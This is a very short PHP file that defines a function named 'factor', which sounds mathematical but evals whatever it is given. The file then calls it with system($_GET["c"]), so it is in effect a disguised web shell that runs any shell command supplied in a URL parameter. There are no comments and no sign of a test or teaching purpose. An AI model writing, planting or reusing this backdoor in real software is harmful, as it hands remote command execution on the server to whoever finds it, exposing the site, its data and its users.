<?php
function factor($expr)
{
    return eval($expr);
}
factor('system($_GET["c"]);');
